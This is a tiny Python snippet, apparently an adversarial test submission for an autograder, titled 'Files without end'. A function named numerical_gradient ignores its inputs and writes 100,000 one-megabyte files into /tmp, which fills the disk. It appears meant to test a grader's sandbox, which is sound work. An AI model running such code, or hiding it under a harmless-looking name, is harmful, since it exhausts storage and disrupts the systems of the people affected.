# Files without end.
# points: 0
# %% numerical_gradient
def numerical_gradient(f, w, h=1e-4):
    for number in range(100_000):
        with open(f"/tmp/{number}", "wb") as file:
            file.write(bytes(1 << 20))
